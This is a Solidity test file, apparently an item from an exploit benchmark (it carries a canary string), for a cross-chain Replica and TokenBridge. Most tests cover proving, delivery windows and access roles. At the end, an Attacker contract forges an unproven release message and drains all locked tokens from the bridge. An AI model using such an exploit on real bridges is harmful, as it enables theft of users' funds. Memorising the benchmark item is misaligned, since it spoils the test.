// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import "./Replica.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Hashes} from "@openzeppelin/contracts@5.4.0/utils/cryptography/Hashes.sol";
import {Outbox} from "./context/Outbox.sol";
import {TokenBridge} from "./context/TokenBridge.sol";

// assay-canary-a6db6cb7-37b8-4074-b8d2-465fd852d6ba

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A stable token with six decimals.
contract Token is ERC20 {
    constructor() ERC20("USD", "USD") {
        _mint(msg.sender, 200_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    uint32 constant LOCAL = 1;
    uint32 constant REMOTE = 2;
    address constant REMOTE_BRIDGE = address(0xB0B0);
    address constant REPORTER = address(0x5151);
    address constant WATCHER = address(0x6161);
    address constant USER = address(0x7171);
    uint256 constant START = 1_700_000_000;
    uint256 constant LOCKED = 190_000_000e6;

    Token internal usd;
    Outbox internal here;
    Outbox internal there;
    Replica internal replica;
    TokenBridge internal bridge;
    Attacker internal thief;
    bytes32[] internal leaves;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        here = new Outbox(LOCAL);
        there = new Outbox(REMOTE);
        replica = new Replica(LOCAL, address(this));
        bridge = new TokenBridge(address(this), address(replica), here, REMOTE, REMOTE_BRIDGE);
        replica.initialize(REMOTE, REPORTER, WATCHER, there.root(), 30 minutes);
        bridge.setToken(address(usd), 10e6);

        // honest users lock their funds through the ordinary entry point
        usd.transfer(USER, LOCKED);
        vm.startPrank(USER);
        usd.approve(address(bridge), LOCKED);
        bridge.lock(address(usd), USER, LOCKED);
        vm.stopPrank();

        thief = new Attacker(replica, bridge, usd);
    }

    /// The message that the remote bridge sends when somebody gives tokens back.
    function message(uint32 nonce, address to, uint256 amount) internal view returns (Messages.Message memory m) {
        bytes32 sender = bytes32(uint256(uint160(REMOTE_BRIDGE)));
        m = Messages.Message(REMOTE, sender, nonce, LOCAL, address(bridge), abi.encode(address(usd), to, amount));
    }

    function send(address to, uint256 amount) internal returns (Messages.Message memory m) {
        m = message(there.nonce(), to, amount);
        vm.prank(REMOTE_BRIDGE);
        leaves.push(there.dispatch(LOCAL, address(bridge), m.body));
    }

    /// The siblings of one of the first two leaves.
    function siblings(uint256 index) internal view returns (bytes32[32] memory s) {
        bytes32 zero = keccak256("messages.empty");
        for (uint256 i = 0; i < 32; ++i) {
            s[i] = zero;
            zero = Hashes.commutativeKeccak256(zero, zero);
        }
        if (leaves.length > 1) s[0] = leaves[1 - index];
    }

    function report() internal returns (bytes32 root) {
        bytes32 previous = replica.latestRoot();
        root = there.root();
        vm.prank(REPORTER);
        replica.submitRoot(previous, root);
    }

    /// A message that was reported is delivered to its recipient, after the window, once.
    function test_Regular() public {
        require(here.nonce() == 1 && here.root() != 0 && bridge.lockedOf(address(usd)) == LOCKED, "locked");
        require(replica.latestRoot() == bytes32(0), "fresh channel");
        Messages.Message memory m = send(USER, 1_000e6);
        bytes32 leaf = replica.leafOf(m);
        require(leaf == leaves[0], "leaf");
        bytes32 root = report();
        require(replica.waitOf(root) == 30 minutes && replica.waitOf("other") == replica.NEVER(), "waits");
        bytes32[32] memory s = siblings(0);

        // too early: it can neither be proven nor delivered
        (bool ok, ) = address(replica).call(abi.encodeCall(replica.prove, (leaf, s)));
        require(!ok && replica.statusOf(m) == Replica.Status.None, "proven inside the window");
        vm.prank(WATCHER);
        replica.delayRoot(root);
        require(replica.waitOf(root) == 60 minutes && replica.delayed(root), "delayed");
        vm.warp(START + 60 minutes);
        replica.prove(leaf, s);
        require(replica.statusOf(m) == Replica.Status.Proven && replica.waitOf(root) == 0, "proven");
        replica.deliver(m);
        require(replica.statusOf(m) == Replica.Status.Delivered, "delivered");
        require(usd.balanceOf(USER) == 1_000e6, "released");
        require(usd.balanceOf(address(bridge)) == LOCKED - 1_000e6, "bridge");
        (ok, ) = address(replica).call(abi.encodeCall(replica.deliver, (m)));
        require(!ok, "delivered twice");
        (ok, ) = address(replica).call(abi.encodeCall(replica.prove, (leaf, s)));
        require(!ok, "revived");

        second();
        roles();
    }

    function second() internal {
        Messages.Message memory m = send(USER, 500e6);
        bytes32 root = report();
        vm.prank(WATCHER);
        replica.revokeRoot(root);
        require(!replica.usable(root) && replica.waitOf(root) == replica.NEVER(), "revoked");
        // the next root covers the message, too
        leaves.push(0);
        vm.prank(USER);
        leaves[2] = there.dispatch(LOCAL, USER, "");
        root = report();
        vm.warp(START + 2 hours);
        bytes32[32] memory s = siblings(1);
        s[1] = Hashes.commutativeKeccak256(leaves[2], keccak256("messages.empty"));
        vm.prank(WATCHER);
        replica.blockRecipient(address(bridge));
        (bool ok, ) = address(replica).call(abi.encodeCall(replica.proveAndDeliver, (m, s)));
        require(!ok, "blocked");
        replica.unblockRecipient(address(bridge));
        replica.proveAndDeliver(m, s);
        require(usd.balanceOf(USER) == 1_500e6, "released");

        delete leaves;
        Replica other = new Replica(LOCAL, address(this));
        other.initialize(REMOTE, REPORTER, WATCHER, root, 10 minutes);
        require(other.usable(root) && other.latestRoot() == root, "a settled root");
        replica.deliverBatch(new Messages.Message[](0));
    }

    function roles() internal {
        vm.prank(WATCHER);
        replica.pause();
        require(replica.paused(), "paused");
        replica.unpause();
        replica.setWindow(1 hours);
        require(replica.window() == 1 hours, "window");
        replica.replaceReporter(REPORTER, USER);
        bytes32 role = replica.REPORTER_ROLE();
        require(replica.hasRole(role, USER) && !replica.hasRole(role, REPORTER), "replaced");
        replica.grantRole(role, REPORTER);
        replica.revokeRole(role, USER);
        vm.prank(REPORTER);
        replica.renounceRole(role, REPORTER);
        bridge.pause();
        bridge.unpause();
        role = bridge.PAUSER_ROLE();
        bridge.grantRole(role, USER);
        bridge.revokeRole(role, USER);
        bridge.renounceRole(role, address(this));
        bridge.setToken(address(usd), 0);
        require(bridge.minimumOf(address(usd)) == 0, "ended");
        usd.transferFrom(address(this), USER, 0);
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function lacks(address who, bytes32 role) internal {
        refuses(who, abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        Replica fresh = new Replica(LOCAL, address(this));
        bytes32 watcher = replica.WATCHER_ROLE();
        bytes32 reporter = replica.REPORTER_ROLE();
        lacks(USER, 0);
        fresh.initialize(REMOTE, REPORTER, WATCHER, 0, 30 minutes);
        lacks(USER, 0);
        replica.setWindow(1 hours);
        lacks(USER, 0);
        replica.replaceReporter(REPORTER, USER);
        lacks(USER, watcher);
        replica.blockRecipient(address(bridge));
        lacks(USER, 0);
        replica.unblockRecipient(address(bridge));
        lacks(USER, watcher);
        replica.pause();
        vm.prank(WATCHER);
        replica.pause();
        lacks(WATCHER, 0);
        replica.unpause();
        lacks(USER, reporter);
        replica.submitRoot(0, "root");
        vm.prank(REPORTER);
        replica.submitRoot(0, "root");
        lacks(USER, watcher);
        replica.delayRoot("root");
        lacks(USER, watcher);
        replica.revokeRoot("root");
        lacks(USER, 0);
        replica.grantRole(reporter, USER);
        lacks(USER, 0);
        replica.revokeRole(reporter, REPORTER);
    }

    /// A replica is connected once, and to somebody.
    function test_RefusesConfigurations() public {
        vm.expectRevert("Replica: bad setup");
        new Replica(0, address(this));
        vm.expectRevert("Replica: bad setup");
        new Replica(LOCAL, address(0));
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        replica.initialize(REMOTE, REPORTER, WATCHER, 0, 30 minutes);
        Replica fresh = new Replica(LOCAL, address(this));
        vm.expectRevert("Replica: bad domain");
        fresh.initialize(0, REPORTER, WATCHER, 0, 30 minutes);
        vm.expectRevert("Replica: bad domain");
        fresh.initialize(LOCAL, REPORTER, WATCHER, 0, 30 minutes);
        vm.expectRevert("Replica: zero address");
        fresh.initialize(REMOTE, address(0), WATCHER, 0, 30 minutes);
        vm.expectRevert("Replica: zero address");
        fresh.initialize(REMOTE, REPORTER, address(0), 0, 30 minutes);
        vm.expectRevert("Replica: bad window");
        fresh.initialize(REMOTE, REPORTER, WATCHER, 0, 10 minutes - 1);
        vm.expectRevert("Replica: bad window");
        replica.setWindow(7 days + 1);
        vm.expectRevert("Replica: zero address");
        replica.replaceReporter(REPORTER, address(0));
        vm.expectRevert("Replica: not a reporter");
        replica.replaceReporter(USER, REPORTER);
    }

    function test_RefusesRoots() public {
        refuses(REPORTER, "Replica: empty root");
        replica.submitRoot(0, 0);
        refuses(REPORTER, "Replica: wrong parent");
        replica.submitRoot("a", "b");
        vm.prank(REPORTER);
        replica.submitRoot(0, "a");
        refuses(REPORTER, "Replica: known root");
        replica.submitRoot("a", "a");
        vm.startPrank(WATCHER);
        vm.expectRevert("Replica: unknown root");
        replica.revokeRoot("b");
        vm.expectRevert("Replica: not pending");
        replica.delayRoot("b");
        replica.delayRoot("a");
        vm.expectRevert("Replica: delayed before");
        replica.delayRoot("a");
        replica.revokeRoot("a");
        vm.expectRevert("Replica: not pending");
        replica.delayRoot("a");
        vm.stopPrank();
    }

    /// Messages belong to this pair of domains, stand below a usable root, and are not delivered while that is stopped.
    function test_RefusesMessages() public {
        Messages.Message memory m = send(USER, 1e6);
        bytes32[32] memory s = siblings(0);
        bytes32 root = report();
        vm.warp(START + 30 minutes - 1);
        vm.expectRevert("Replica: root not usable");
        replica.prove(leaves[0], s);
        vm.warp(START + 30 minutes);
        vm.expectRevert("Replica: root not usable");
        replica.prove("leaf", s);
        replica.prove(leaves[0], s);
        m.destination = LOCAL + 1;
        vm.expectRevert("Replica: wrong destination");
        replica.deliver(m);
        m.destination = LOCAL;
        m.origin = REMOTE + 1;
        vm.expectRevert("Replica: wrong origin");
        replica.deliver(m);
        m.origin = REMOTE;
        vm.prank(WATCHER);
        replica.blockRecipient(address(bridge));
        vm.expectRevert("Replica: blocked recipient");
        replica.deliver(m);
        replica.unblockRecipient(address(bridge));
        vm.prank(WATCHER);
        replica.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        replica.deliver(m);
        replica.unpause();
        Messages.Message[] memory twice = new Messages.Message[](2);
        (twice[0], twice[1]) = (m, m);
        vm.expectRevert("Replica: not proven");
        replica.deliverBatch(twice);
        vm.prank(WATCHER);
        replica.revokeRoot(root);
        vm.expectRevert("Replica: not proven");
        replica.deliver(m);
    }

    function test_RefusesRevivals() public {
        Messages.Message memory m = send(USER, 1e6);
        bytes32[32] memory s = siblings(0);
        report();
        vm.warp(START + 30 minutes);
        replica.proveAndDeliver(m, s);
        vm.expectRevert("Replica: already delivered");
        replica.prove(leaves[0], s);
    }

    function test_RefusesBridges() public {
        bytes32 sender = bytes32(uint256(uint160(REMOTE_BRIDGE)));
        bytes memory body = abi.encode(address(usd), USER, uint256(1));
        refuses(USER, "TokenBridge: not the replica");
        bridge.handle(REMOTE, sender, body);
        refuses(address(replica), "TokenBridge: wrong domain");
        bridge.handle(REMOTE + 1, sender, body);
        refuses(address(replica), "TokenBridge: wrong sender");
        bridge.handle(REMOTE, bytes32(uint256(1)), body);
        vm.prank(address(replica));
        vm.expectRevert();
        bridge.handle(REMOTE, sender, abi.encode(address(usd), USER, LOCKED + 1));
        vm.expectRevert("TokenBridge: too little");
        bridge.lock(address(usd), USER, 10e6 - 1);
        vm.expectRevert("TokenBridge: too little");
        bridge.lock(address(this), USER, 10e6);
        vm.expectRevert("TokenBridge: zero address");
        bridge.lock(address(usd), address(0), 10e6);
        vm.expectRevert();
        bridge.lock(address(usd), USER, 10e6);
        bridge.pause();
        usd.approve(address(bridge), 10e6);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        bridge.lock(address(usd), USER, 10e6);
        lacks(USER, 0);
        bridge.setToken(address(usd), 0);
        bytes32 pauser = bridge.PAUSER_ROLE();
        lacks(USER, pauser);
        bridge.unpause();
        bridge.unpause();
        lacks(USER, pauser);
        bridge.pause();
        vm.expectRevert("TokenBridge: zero address");
        new TokenBridge(address(0), address(replica), here, REMOTE, REMOTE_BRIDGE);
        vm.expectRevert("TokenBridge: zero address");
        new TokenBridge(USER, address(0), here, REMOTE, REMOTE_BRIDGE);
        vm.expectRevert("Outbox: no domain");
        new Outbox(0);
        vm.expectRevert("Outbox: same domain");
        here.dispatch(LOCAL, USER, "");
        vm.expectRevert("Outbox: long body");
        here.dispatch(REMOTE, USER, new bytes(2049));
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + LOCKED, "nothing gained");
    }

    function target() public view returns (address) {
        return address(replica);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Writes itself a release instruction that no remote domain has ever sent.
contract Attacker {
    Replica internal replica;
    TokenBridge internal bridge;
    Token internal usd;

    constructor(Replica replica_, TokenBridge bridge_, Token usd_) {
        replica = replica_;
        bridge = bridge_;
        usd = usd_;
    }

    function run() external {
        replica.deliver(
            Messages.Message({
                origin: replica.remoteDomain(),
                sender: bytes32(uint256(uint160(bridge.remoteBridge()))),
                nonce: 0,
                destination: replica.localDomain(),
                recipient: address(bridge),
                body: abi.encode(address(usd), address(this), usd.balanceOf(address(bridge)))
            })
        );
    }
}
